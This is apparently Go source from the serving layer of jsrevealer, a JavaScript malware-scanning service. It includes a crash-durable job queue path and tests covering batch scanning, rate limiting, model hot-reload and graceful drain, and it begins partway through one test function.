	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	var acc struct {
		ID string `json:"id"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&acc); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("/jobs status = %d, want 202", resp.StatusCode)
	}
	<-entered

	// kill -9, then restart over the same queue directory.
	s1.q.Abandon()
	close(release)
	ts1.Close()
	cfg2 := cfg
	cfg2.Loader = stubLoader(map[string]scan.Classifier{"model": flagEvil})
	_, ts2, _ := newTestServer(t, cfg2)

	v := pollJob(t, ts2, acc.ID)
	if v.State != JobDone || len(v.Results) != 1 || !v.Results[0].Malicious {
		t.Fatalf("redelivered job = %+v", v)
	}

	// The second process never saw the original request, yet its worker
	// spans live under the caller's trace id.
	tr := getTrace(t, ts2.URL, callerTrace.String(), 2)
	byName := map[string]obs.SpanRecord{}
	for _, sp := range tr.Spans {
		byName[sp.Name] = sp
	}
	run, ok := byName["job.run"]
	if !ok {
		t.Fatalf("no job.run span in post-restart trace: %+v", tr.Spans)
	}
	attrs := map[string]string{}
	for _, a := range run.Attrs {
		attrs[a.Key] = a.Value
	}
	if attrs["job"] != acc.ID {
		t.Errorf("job.run attrs = %v, want job=%s", attrs, acc.ID)
	}
	if attrs["attempt"] != "1" {
		t.Errorf("job.run attempt attr = %q, want 1 (the crash consumed a delivery)", attrs["attempt"])
	}
	if file, ok := byName["scan.file"]; !ok {
		t.Errorf("no scan.file span under the re-delivered job: %+v", tr.Spans)
	} else if file.ParentID != run.SpanID {
		t.Errorf("scan.file parent %q != job.run span %q", file.ParentID, run.SpanID)
	}
}

// TestRejectsAndEvictionsAudited: shed load leaves audit lines too — a
// rate-limit rejection and an evicted-job poll are both recorded with kind
// and provenance.
func TestRejectsAndEvictionsAudited(t *testing.T) {
	auditDir := t.TempDir()
	s, ts, _ := newTestServer(t, Config{
		ModelPath:  "model",
		Loader:     stubLoader(map[string]scan.Classifier{"model": flagEvil}),
		AuditDir:   auditDir,
		RatePerSec: 0.001, Burst: 1,
	})
	// Request 1 passes (and audits its verdict); request 2 is rate-limited.
	for i := 0; i < 2; i++ {
		resp, err := http.Post(ts.URL+"/scan", "application/x-ndjson", strings.NewReader(ndjsonBatch("a.js")))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
	}
	recs := auditLines(t, s, auditDir)
	var reject *audit.Record
	for i := range recs {
		if recs[i].Kind == "reject" {
			reject = &recs[i]
		}
	}
	if reject == nil {
		t.Fatalf("no reject record in %+v", recs)
	}
	if reject.Reason != "rate_limited" || reject.Source != "scan" || reject.TraceID == "" {
		t.Errorf("reject record = %+v", reject)
	}
}
