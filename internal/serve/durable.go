package serve

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"strconv"
	"sync"
	"time"

	"jsrevealer/internal/audit"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/queue"
	"jsrevealer/internal/scan"
)

// This file is the durable-mode job path: when Config.QueueDir is set,
// POST /jobs persists submissions to the internal/queue WAL instead of the
// in-memory store, workers lease jobs with heartbeat renewal, and finished
// verdicts are committed back through the queue — so a kill -9 mid-batch
// plus a restart resumes accepted jobs and keeps already-committed
// verdicts, with lease fencing guaranteeing no duplicate emission.

// progressTable exposes the verdicts of running durable jobs to polls, the
// durable counterpart of the in-memory job's results-so-far slice.
type progressTable struct {
	mu sync.Mutex
	m  map[string][]verdictLine
}

func (p *progressTable) add(id string, line verdictLine) {
	p.mu.Lock()
	p.m[id] = append(p.m[id], line)
	p.mu.Unlock()
}

func (p *progressTable) snapshot(id string) []verdictLine {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]verdictLine(nil), p.m[id]...)
}

// take returns the job's accumulated verdicts and forgets them.
func (p *progressTable) take(id string) []verdictLine {
	p.mu.Lock()
	defer p.mu.Unlock()
	lines := p.m[id]
	delete(p.m, id)
	return lines
}

// durableSubmit persists an accepted batch to the queue and answers 202.
// The payload is the batch re-encoded as the same NDJSON record objects
// the wire format uses, so the WAL is inspectable with standard tools.
func (s *Server) durableSubmit(w http.ResponseWriter, r *http.Request, srcs []scan.Source) {
	recs := make([]record, len(srcs))
	for i, src := range srcs {
		recs[i] = record{Name: src.Name, Source: src.Content}
	}
	payload, err := json.Marshal(recs)
	if err != nil {
		writeJSONError(w, http.StatusInternalServerError, err.Error())
		return
	}
	prio := 0
	if q := r.URL.Query().Get("priority"); q != "" {
		p, perr := strconv.Atoi(q)
		if perr != nil {
			writeJSONError(w, http.StatusBadRequest, "priority must be an integer")
			return
		}
		prio = p
	}
	id := newJobID()
	trace := ""
	if sp := obs.SpanFromContext(r.Context()); sp != nil {
		// The traceparent rides the WAL record: a worker on a restarted
		// process still joins this request's trace.
		trace = sp.Context().Traceparent()
	}
	if err := s.q.EnqueueTrace(id, prio, payload, trace); err != nil {
		writeJSONError(w, http.StatusServiceUnavailable, err.Error())
		return
	}
	s.met.jobs["submitted"].Inc()
	writeJSON(w, http.StatusAccepted, map[string]any{
		"id":      id,
		"state":   JobQueued,
		"scripts": len(srcs),
		"durable": true,
	})
}

// durableGet answers GET /jobs/{id} from the queue: 404 for ids that never
// existed, 410 Gone for ids whose results have been removed by the result
// TTL, and the mapped job view otherwise.
func (s *Server) durableGet(w http.ResponseWriter, r *http.Request, id string) {
	j, err := s.q.Get(id)
	if err != nil {
		if s.q.Forgotten(id) {
			s.writeJSONGone(w, r, id)
			return
		}
		writeJSONError(w, http.StatusNotFound, "unknown job")
		return
	}
	writeJSON(w, http.StatusOK, durableView(j, s.progress.snapshot(id)))
}

// durableView maps a queue job snapshot onto the JobView wire shape shared
// with the in-memory path, merging the live progress of a running job.
func durableView(j queue.Job, progress []verdictLine) JobView {
	v := JobView{
		ID:          j.ID,
		SubmittedAt: j.EnqueuedAt,
		Attempt:     j.Attempt,
		Error:       j.LastErr,
	}
	switch j.State {
	case queue.StatePending:
		v.State = JobQueued
	case queue.StateLeased:
		v.State = JobRunning
	case queue.StateDone:
		v.State = JobDone
	case queue.StateDead:
		v.State = JobFailed
	}
	if !j.DoneAt.IsZero() {
		t := j.DoneAt
		v.FinishedAt = &t
	}
	if j.State == queue.StateDone {
		var lines []verdictLine
		json.Unmarshal(j.Result, &lines)
		v.Results = lines
		v.Scripts = len(lines)
		return v
	}
	var recs []record
	json.Unmarshal(j.Payload, &recs)
	v.Scripts = len(recs)
	v.Results = progress
	return v
}

// durableWorker leases and runs queue jobs until the worker context is
// cancelled (drain or close).
func (s *Server) durableWorker(ctx context.Context, i int) {
	owner := fmt.Sprintf("serve-worker-%d", i)
	for {
		l, err := s.q.Next(ctx, owner)
		if err != nil {
			return // closed or cancelled
		}
		s.runLease(l)
	}
}

// runLease executes one leased job: decode the payload, scan it with
// heartbeat renewal keeping the lease alive, and commit the verdicts with
// Ack. A lost lease (missed heartbeats — the reaper reassigned the job)
// cancels the scan and commits nothing, so the new owner's verdicts are
// the only ones emitted. Undecodable payloads and missing models are
// Nacked: retried with backoff, dead-lettered once the attempt budget is
// spent.
func (s *Server) runLease(l *queue.Lease) {
	s.jobsPending.Add(1)
	s.met.jobInflight.Inc()
	defer func() {
		s.jobsPending.Add(-1)
		s.met.jobInflight.Dec()
	}()

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go s.heartbeatLease(ctx, l, cancel)

	var recs []record
	if err := json.Unmarshal(l.Job.Payload, &recs); err != nil {
		s.failLease(l, "undecodable payload: "+err.Error())
		return
	}
	eng := s.engine()
	if eng == nil {
		s.failLease(l, "no model loaded")
		return
	}
	srcs := make([]scan.Source, len(recs))
	for i, r := range recs {
		srcs[i] = scan.Source{Name: r.Name, Content: r.Source}
	}
	// Join the submitting request's trace (persisted in the job record, so
	// this works even when that request hit a process that has since been
	// kill -9'd) and carry the delivery provenance into the audit trail.
	sctx, sp := obs.StartSpan(s.workCtx(ctx, l.Job.Trace), "job.run")
	sp.SetAttr("job", l.Job.ID)
	sp.SetAttr("attempt", strconv.Itoa(l.Job.Attempt))
	defer sp.End()
	sctx = audit.WithMeta(sctx, audit.Meta{
		Source: "durable", Job: l.Job.ID, Attempt: l.Job.Attempt,
	})
	eng.ScanSources(sctx, srcs, func(res scan.Result) {
		s.progress.add(l.Job.ID, toLine(res))
	})
	lines := s.progress.take(l.Job.ID)
	if ctx.Err() != nil {
		// The lease lapsed mid-scan and the job belongs to someone else
		// now; committing here would double-emit.
		return
	}
	data, err := json.Marshal(lines)
	if err != nil {
		s.failLease(l, "encode results: "+err.Error())
		return
	}
	if err := l.Ack(data); err == nil {
		s.met.jobs["done"].Inc()
	}
	// ErrLeaseLost / ErrClosed: the fencing token (or shutdown) already
	// decided this delivery does not count; nothing to roll back.
}

// failLease reports a failed delivery and counts a terminal failure when
// the job dead-lettered as a result.
func (s *Server) failLease(l *queue.Lease, reason string) {
	if err := l.Nack(reason); err != nil {
		return
	}
	if j, err := s.q.Get(l.Job.ID); err == nil && j.State == queue.StateDead {
		s.met.jobs["failed"].Inc()
	}
}

// heartbeatLease renews l at a third of the lease duration until ctx ends.
// A failed renewal means the lease is gone — the scan is cancelled so the
// worker stops burning cycles on a job it can no longer commit.
func (s *Server) heartbeatLease(ctx context.Context, l *queue.Lease, cancel context.CancelFunc) {
	interval := s.cfg.QueueLease / 3
	if interval < 10*time.Millisecond {
		interval = 10 * time.Millisecond
	}
	t := time.NewTicker(interval)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-t.C:
			switch err := l.Heartbeat(); {
			case err == nil:
			case errors.Is(err, queue.ErrLeaseLost),
				errors.Is(err, queue.ErrNotFound),
				errors.Is(err, queue.ErrClosed):
				// The lease is definitively gone; stop the scan.
				cancel()
				return
			default:
				// Transient WAL I/O failure: the lease may still be live,
				// so keep scanning and retry at the next tick.
			}
		}
	}
}
