package serve

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"jsrevealer/internal/obs"
	"jsrevealer/internal/scan"
)

// stubLoader builds a Loader over a path→classifier table, so the suite
// exercises loading, validation, and hot-reload without ever training a
// model. The reported SHA-256 digests the path, making generations
// distinguishable through /version.
func stubLoader(table map[string]scan.Classifier) Loader {
	return func(path string) (scan.Classifier, string, error) {
		c, ok := table[path]
		if !ok {
			return nil, "", fmt.Errorf("no model at %s", path)
		}
		sum := sha256.Sum256([]byte(path))
		return c, hex.EncodeToString(sum[:]), nil
	}
}

// flagEvil flags any source containing "evil".
var flagEvil = scan.ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
	return strings.Contains(src, "evil"), nil
})

// alwaysMalicious flags everything — the "new model" in reload tests.
var alwaysMalicious = scan.ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
	return true, nil
})

// brokenClassifier fails shadow validation.
var brokenClassifier = scan.ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
	return false, fmt.Errorf("model cannot classify")
})

// newTestServer builds a server plus httptest frontend around cfg. The
// verdict cache is disabled unless the config asks otherwise, so stubbed
// classifiers observe every request.
func newTestServer(t *testing.T, cfg Config) (*Server, *httptest.Server, *obs.Registry) {
	t.Helper()
	if cfg.Scan.CacheSize == 0 {
		cfg.Scan.CacheSize = -1
	}
	reg := obs.NewRegistry()
	s, err := New(cfg, reg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.Close)
	ts := httptest.NewServer(s.Handler())
	t.Cleanup(ts.Close)
	return s, ts, reg
}

func ndjsonBatch(names ...string) string {
	var b strings.Builder
	for _, n := range names {
		src := "var x = 1;"
		if strings.HasPrefix(n, "evil") {
			src = "evil();"
		}
		line, _ := json.Marshal(record{Name: n, Source: src})
		b.Write(line)
		b.WriteByte('\n')
	}
	return b.String()
}

func decodeLines(t *testing.T, body io.Reader) map[string]verdictLine {
	t.Helper()
	out := make(map[string]verdictLine)
	sc := bufio.NewScanner(body)
	for sc.Scan() {
		var l verdictLine
		if err := json.Unmarshal(sc.Bytes(), &l); err != nil {
			t.Fatalf("bad NDJSON line %q: %v", sc.Text(), err)
		}
		out[l.Name] = l
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

func TestScanBatchStreamsNDJSON(t *testing.T) {
	_, ts, _ := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
	})
	resp, err := http.Post(ts.URL+"/scan", "application/x-ndjson",
		strings.NewReader(ndjsonBatch("a.js", "evil-b.js", "c.js")))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/scan status = %d", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "application/x-ndjson" {
		t.Errorf("content type = %q", ct)
	}
	lines := decodeLines(t, resp.Body)
	if len(lines) != 3 {
		t.Fatalf("streamed %d lines, want 3", len(lines))
	}
	for name, l := range lines {
		wantMal := strings.HasPrefix(name, "evil")
		if l.Malicious != wantMal {
			t.Errorf("%s: malicious=%v, want %v", name, l.Malicious, wantMal)
		}
		if wantMal && l.Verdict != "MALICIOUS" {
			t.Errorf("%s: verdict = %q", name, l.Verdict)
		}
	}
}

func TestScanBatchMultipart(t *testing.T) {
	_, ts, _ := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
	})
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	for name, src := range map[string]string{"one.js": "var a = 1;", "two.js": "evil();"} {
		fw, err := mw.CreateFormFile("scripts", name)
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(fw, src)
	}
	mw.Close()
	resp, err := http.Post(ts.URL+"/scan", mw.FormDataContentType(), &buf)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("/scan multipart status = %d", resp.StatusCode)
	}
	lines := decodeLines(t, resp.Body)
	if len(lines) != 2 || !lines["two.js"].Malicious || lines["one.js"].Malicious {
		t.Errorf("multipart lines = %+v", lines)
	}
}

func TestScanBatchRejectsBadInput(t *testing.T) {
	_, ts, _ := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
		MaxBatch:  2,
		MaxBody:   256,
	})
	for _, tc := range []struct {
		name, body string
		status     int
	}{
		{"invalid json", "{not json", http.StatusBadRequest},
		{"empty batch", "", http.StatusBadRequest},
		{"too many scripts", ndjsonBatch("a.js", "b.js", "c.js"), http.StatusRequestEntityTooLarge},
		{"oversized body", `{"name":"big.js","source":"` + strings.Repeat("x", 512) + `"}`, http.StatusRequestEntityTooLarge},
	} {
		resp, err := http.Post(ts.URL+"/scan", "application/x-ndjson", strings.NewReader(tc.body))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != tc.status {
			t.Errorf("%s: status = %d, want %d", tc.name, resp.StatusCode, tc.status)
		}
	}
}

// TestScanConcurrentBatches hammers /scan from many goroutines — the race
// detector's view of the admission queue, the engine pool, and the
// streaming writer all at once.
func TestScanConcurrentBatches(t *testing.T) {
	_, ts, _ := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
	})
	const clients = 8
	var wg sync.WaitGroup
	errs := make(chan error, clients)
	for c := 0; c < clients; c++ {
		wg.Add(1)
		go func(c int) {
			defer wg.Done()
			batch := ndjsonBatch(
				fmt.Sprintf("c%d-a.js", c), fmt.Sprintf("evil-c%d.js", c),
				fmt.Sprintf("c%d-b.js", c), fmt.Sprintf("c%d-c.js", c),
			)
			resp, err := http.Post(ts.URL+"/scan", "application/x-ndjson", strings.NewReader(batch))
			if err != nil {
				errs <- err
				return
			}
			defer resp.Body.Close()
			if resp.StatusCode != http.StatusOK {
				errs <- fmt.Errorf("client %d: status %d", c, resp.StatusCode)
				return
			}
			raw, _ := io.ReadAll(resp.Body)
			if n := bytes.Count(raw, []byte("\n")); n != 4 {
				errs <- fmt.Errorf("client %d: %d lines, want 4", c, n)
			}
		}(c)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}

// isSmoke reports whether src is one of the embedded shadow-validation
// scripts, which stub classifiers must answer without blocking or the
// initial load in New would never return.
func isSmoke(src string) bool {
	for _, s := range smokeCorpus {
		if s.Content == src {
			return true
		}
	}
	return false
}

// blockingClassifier parks every non-smoke classification until release is
// closed, signalling each arrival on entered.
func blockingClassifier(entered chan<- struct{}, release <-chan struct{}) scan.Classifier {
	return scan.ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
		if isSmoke(src) {
			return false, nil
		}
		entered <- struct{}{}
		<-release
		return false, nil
	})
}

func waitGauge(t *testing.T, reg *obs.Registry, name string, want float64) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if reg.Gauge(name, "", nil).Value() == want {
			return
		}
		time.Sleep(2 * time.Millisecond)
	}
	t.Fatalf("gauge %s never reached %v (now %v)", name, want, reg.Gauge(name, "", nil).Value())
}

// TestAdmissionQueueFull: with one concurrency slot and a one-deep waiting
// room, the third simultaneous request fast-fails 429 with Retry-After
// while the queued one eventually completes.
func TestAdmissionQueueFull(t *testing.T) {
	entered := make(chan struct{}, 4)
	release := make(chan struct{})
	_, ts, reg := newTestServer(t, Config{
		ModelPath:     "model",
		Loader:        stubLoader(map[string]scan.Classifier{"model": blockingClassifier(entered, release)}),
		MaxConcurrent: 1,
		MaxQueue:      1,
	})

	type result struct {
		status int
		err    error
	}
	results := make(chan result, 2)
	post := func(body string) {
		resp, err := http.Post(ts.URL+"/detect", "text/plain", strings.NewReader(body))
		if err != nil {
			results <- result{0, err}
			return
		}
		resp.Body.Close()
		results <- result{resp.StatusCode, nil}
	}

	go post("var a = 1;") // takes the slot
	<-entered             // classifier reached: slot held
	go post("var b = 2;") // takes the waiting room
	waitGauge(t, reg, QueueDepthMetric, 1)

	// Third request: waiting room full → immediate 429 + Retry-After.
	resp, err := http.Post(ts.URL+"/detect", "text/plain", strings.NewReader("var c = 3;"))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("third request status = %d, want 429", resp.StatusCode)
	}
	if ra := resp.Header.Get("Retry-After"); ra == "" {
		t.Error("429 without Retry-After header")
	}
	if n := reg.Counter(AdmissionRejectsMetric, "", obs.Labels{"reason": "queue_full"}).Value(); n != 1 {
		t.Errorf("queue_full rejects = %d, want 1", n)
	}

	close(release)
	for i := 0; i < 2; i++ {
		r := <-results
		if r.err != nil || r.status != http.StatusOK {
			t.Errorf("held request %d: status %d err %v", i, r.status, r.err)
		}
	}
	// Every admitted request's queue wait was accounted.
	if n := reg.Histogram(QueueWaitMetric, "", nil, nil).Count(); n != 2 {
		t.Errorf("queue wait observations = %d, want 2", n)
	}
	// Drain the extra entered signal from the queued request.
	<-entered
}

func TestRateLimitPerClient(t *testing.T) {
	_, ts, reg := newTestServer(t, Config{
		ModelPath:  "model",
		Loader:     stubLoader(map[string]scan.Classifier{"model": flagEvil}),
		RatePerSec: 0.001, // refill far slower than the test
		Burst:      1,
	})
	post := func(client string) *http.Response {
		req, err := http.NewRequest(http.MethodPost, ts.URL+"/detect", strings.NewReader("var a=1;"))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("X-Client", client)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp
	}
	if r := post("crawler-1"); r.StatusCode != http.StatusOK {
		t.Fatalf("first request status = %d", r.StatusCode)
	}
	r2 := post("crawler-1")
	if r2.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("second request status = %d, want 429", r2.StatusCode)
	}
	if ra := r2.Header.Get("Retry-After"); ra == "" {
		t.Error("rate-limited 429 without Retry-After")
	}
	// A different client has its own bucket.
	if r := post("crawler-2"); r.StatusCode != http.StatusOK {
		t.Errorf("other client status = %d, want 200", r.StatusCode)
	}
	if n := reg.Counter(AdmissionRejectsMetric, "", obs.Labels{"reason": "rate_limited"}).Value(); n != 1 {
		t.Errorf("rate_limited rejects = %d, want 1", n)
	}
}

// TestHotReloadSwapsVerdicts: a reload mid-traffic leaves the in-flight
// request on the old model and flips verdict behaviour for new requests,
// with /version reflecting the new generation.
func TestHotReloadSwapsVerdicts(t *testing.T) {
	entered := make(chan struct{}, 1)
	release := make(chan struct{})
	table := map[string]scan.Classifier{
		"model-a": blockingClassifier(entered, release), // benign once released
		"model-b": alwaysMalicious,
		"broken":  brokenClassifier,
	}
	s, ts, reg := newTestServer(t, Config{ModelPath: "model-a", Loader: stubLoader(table)})

	verdictOf := func(resp *http.Response) bool {
		defer resp.Body.Close()
		var v struct {
			Malicious bool `json:"malicious"`
		}
		if err := json.NewDecoder(resp.Body).Decode(&v); err != nil {
			t.Fatal(err)
		}
		return v.Malicious
	}

	// In-flight request on the old model.
	inflight := make(chan bool, 1)
	go func() {
		resp, err := http.Post(ts.URL+"/detect", "text/plain", strings.NewReader("var a=1;"))
		if err != nil {
			t.Error(err)
			inflight <- false
			return
		}
		inflight <- verdictOf(resp)
	}()
	<-entered

	// Swap to model-b while the old request is still running.
	resp, err := http.Post(ts.URL+"/admin/reload?path=model-b", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	var v Version
	if err := json.NewDecoder(resp.Body).Decode(&v); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("reload status = %d", resp.StatusCode)
	}
	wantSHA := sha256.Sum256([]byte("model-b"))
	if v.ModelPath != "model-b" || v.SHA256 != hex.EncodeToString(wantSHA[:]) || v.Reloads != 2 {
		t.Errorf("post-reload version = %+v", v)
	}

	// New traffic sees the new model immediately.
	resp2, err := http.Post(ts.URL+"/detect", "text/plain", strings.NewReader("var b=2;"))
	if err != nil {
		t.Fatal(err)
	}
	if resp2.StatusCode != http.StatusOK || !verdictOf(resp2) {
		t.Error("request after reload should be flagged by model-b")
	}

	// The in-flight request finishes on the old model, undropped.
	close(release)
	if mal := <-inflight; mal {
		t.Error("in-flight request should have kept model-a's benign verdict")
	}

	// A broken candidate is rejected by shadow validation: 422, old model
	// keeps serving, error counted.
	resp3, err := http.Post(ts.URL+"/admin/reload?path=broken", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp3.Body)
	resp3.Body.Close()
	if resp3.StatusCode != http.StatusUnprocessableEntity {
		t.Errorf("broken reload status = %d, want 422", resp3.StatusCode)
	}
	if s.Version().ModelPath != "model-b" {
		t.Errorf("live model after failed reload = %q, want model-b", s.Version().ModelPath)
	}
	if n := reg.Counter(ReloadsMetric, "", obs.Labels{"result": "error"}).Value(); n != 1 {
		t.Errorf("reload error counter = %d, want 1", n)
	}
	// A missing model file is rejected the same way.
	resp4, err := http.Post(ts.URL+"/admin/reload?path=missing", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp4.Body.Close()
	if resp4.StatusCode != http.StatusUnprocessableEntity {
		t.Errorf("missing reload status = %d, want 422", resp4.StatusCode)
	}
}

// TestDrainFinishesInflight: drain flips /healthz and sheds new work while
// an in-flight request runs to completion.
func TestDrainFinishesInflight(t *testing.T) {
	entered := make(chan struct{}, 1)
	release := make(chan struct{})
	s, ts, reg := newTestServer(t, Config{
		ModelPath: "model",
		Loader:    stubLoader(map[string]scan.Classifier{"model": blockingClassifier(entered, release)}),
	})

	inflight := make(chan int, 1)
	go func() {
		resp, err := http.Post(ts.URL+"/detect", "text/plain", strings.NewReader("var a=1;"))
		if err != nil {
			t.Error(err)
			inflight <- 0
			return
		}
		resp.Body.Close()
		inflight <- resp.StatusCode
	}()
	<-entered

	if err := s.Drain(context.Background()); err != nil {
		t.Fatalf("drain: %v", err)
	}

	// Health flips to draining with 503.
	resp, err := http.Get(ts.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	var status map[string]string
	json.NewDecoder(resp.Body).Decode(&status)
	resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable || status["status"] != "draining" {
		t.Errorf("/healthz during drain = %d %v, want 503 draining", resp.StatusCode, status)
	}

	// New work is shed.
	resp2, err := http.Post(ts.URL+"/detect", "text/plain", strings.NewReader("var b=2;"))
	if err != nil {
		t.Fatal(err)
	}
	resp2.Body.Close()
	if resp2.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("request during drain status = %d, want 503", resp2.StatusCode)
	}
	if n := reg.Counter(AdmissionRejectsMetric, "", obs.Labels{"reason": "draining"}).Value(); n != 1 {
		t.Errorf("draining rejects = %d, want 1", n)
	}

	// The in-flight request still completes.
	close(release)
	if code := <-inflight; code != http.StatusOK {
		t.Errorf("in-flight request finished with %d, want 200", code)
	}
}

func TestVersionWithoutModel(t *testing.T) {
	_, ts, _ := newTestServer(t, Config{})
	resp, err := http.Get(ts.URL + "/version")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var v Version
	if err := json.NewDecoder(resp.Body).Decode(&v); err != nil {
		t.Fatal(err)
	}
	if v.ModelLoaded || v.Reloads != 0 {
		t.Errorf("version without model = %+v", v)
	}
}

func TestNewRejectsBrokenInitialModel(t *testing.T) {
	_, err := New(Config{
		ModelPath: "broken",
		Loader:    stubLoader(map[string]scan.Classifier{"broken": brokenClassifier}),
	}, obs.NewRegistry())
	if err == nil || !strings.Contains(err.Error(), "shadow validation") {
		t.Fatalf("New with broken model: err = %v, want shadow validation failure", err)
	}
}
