// Package serve is the production serving subsystem behind `jsrevealer
// serve`: everything HTTP-facing in one self-contained, stdlib-only layer.
//
// Four pillars:
//
//   - Batch and async APIs. POST /scan accepts many scripts per request
//     (concatenated NDJSON records or multipart parts) and streams one
//     NDJSON verdict line per script as results complete off the scan
//     engine's worker pool. POST /jobs + GET /jobs/{id} give an async job
//     store — bounded, in-memory, TTL-evicted, or WAL-backed and
//     crash-durable with Config.QueueDir — for submissions too large to
//     hold a connection open for.
//
//   - Admission control. A bounded admission queue (concurrency slots plus
//     a waiting room) with queue-wait accounting fast-fails 429 with
//     Retry-After when full; a per-client token bucket (keyed by X-Client
//     or remote host) sheds abusive callers; per-request byte limits stop
//     unbounded buffering before the engine's own guards even apply.
//
//   - Model hot-reload. The live model sits behind an atomic pointer and
//     is swapped by SIGHUP or POST /admin/reload. A candidate model must
//     classify an embedded smoke corpus without error before it takes
//     traffic, and /version exposes the live model's path, SHA-256, and
//     load time.
//
//   - Graceful drain. Drain stops admitting work, flips /healthz to 503
//     "draining" so load balancers back off, and waits for accepted async
//     jobs to finish; in-flight HTTP requests are left to the caller's
//     http.Server.Shutdown.
//
// Every pillar emits jsrevealer_serve_* metrics through internal/obs, so
// the whole subsystem is visible on the same /metrics surface as the scan
// engine and detector stages.
package serve

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/pprof"
	"runtime"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"jsrevealer/internal/alert"
	"jsrevealer/internal/audit"
	"jsrevealer/internal/core"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/queue"
	"jsrevealer/internal/rules"
	"jsrevealer/internal/scan"
)

// Defaults for Config zero values.
const (
	// DefaultMaxBody caps one request body at 16MiB.
	DefaultMaxBody = int64(16 << 20)
	// DefaultMaxBatch caps scripts per batch request.
	DefaultMaxBatch = 256
	// DefaultMaxQueue is the admission waiting room size.
	DefaultMaxQueue = 64
	// DefaultMaxJobs bounds the async job store.
	DefaultMaxJobs = 256
	// DefaultJobWorkers drain the async job queue.
	DefaultJobWorkers = 2
	// DefaultJobTTL keeps finished jobs pollable this long.
	DefaultJobTTL = 10 * time.Minute
	// DefaultDrainTimeout bounds graceful shutdown.
	DefaultDrainTimeout = 5 * time.Second
	// DefaultQueueWatermark is the durable-queue backlog beyond which
	// admission answers 429.
	DefaultQueueWatermark = 1024
	// DefaultQueueLease is how long one durable delivery may run between
	// heartbeats.
	DefaultQueueLease = 30 * time.Second
)

// Config tunes the serving subsystem. The zero value serves without a
// model (work endpoints answer 503) under default admission limits.
type Config struct {
	// ModelPath enables the work endpoints; empty serves observability only.
	ModelPath string
	// Loader loads ModelPath into a classifier; nil selects the production
	// core.Detector loader. Tests inject stubs here.
	Loader Loader
	// Scan configures the engine built around each loaded model (workers,
	// per-file timeout, byte/token guards, verdict-cache size) — the knobs
	// shared with the detect CLI.
	Scan scan.Config
	// MaxBody caps one request body in bytes; <= 0 means DefaultMaxBody.
	MaxBody int64
	// MaxBatch caps scripts per batch request; <= 0 means DefaultMaxBatch.
	MaxBatch int
	// MaxConcurrent bounds requests executing at once; <= 0 means twice
	// GOMAXPROCS (work endpoints are scan-bound, so a small multiple of
	// the engine's own parallelism keeps the queue meaningful).
	MaxConcurrent int
	// MaxQueue bounds requests waiting for a slot; beyond it requests
	// fast-fail 429. 0 means DefaultMaxQueue; negative means no waiting
	// room at all.
	MaxQueue int
	// RatePerSec enables per-client token-bucket rate limiting; 0 disables.
	RatePerSec float64
	// Burst is the token-bucket capacity; <= 0 means max(1, RatePerSec).
	Burst int
	// MaxJobs bounds the async job store; <= 0 means DefaultMaxJobs.
	MaxJobs int
	// JobWorkers is the async worker count; <= 0 means DefaultJobWorkers.
	JobWorkers int
	// JobTTL keeps finished jobs pollable; <= 0 means DefaultJobTTL.
	JobTTL time.Duration
	// DrainTimeout bounds Drain and the caller's server shutdown; <= 0
	// means DefaultDrainTimeout.
	DrainTimeout time.Duration
